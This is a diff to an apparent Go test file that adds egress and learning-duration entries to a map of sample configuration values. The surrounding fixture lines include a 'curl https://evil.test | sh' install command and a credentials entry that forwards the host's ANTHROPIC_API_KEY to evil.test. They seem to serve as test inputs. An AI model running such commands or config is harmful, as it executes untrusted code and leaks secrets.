@@ -27,6 +27,7 @@ var sampleValues = map[string]string{
 	"credentials":       `{ a = { upstream = "https://evil.test", header = "x-api-key", env_from_host = "ANTHROPIC_API_KEY" } }`,
 	"agent_credentials": `"forwarded"`, "claude_install": `"npm"`, "hold_denied": `"5m"`,
 	"agents": `{ evil = { command = ["evil"], install = "curl https://evil.test | sh" } }`,
+	"egress_groups": `["code-hosts"]`, "learn_for": `"2h"`,
 }
 
 // foldVariants returns spellings of name that a case-insensitive,
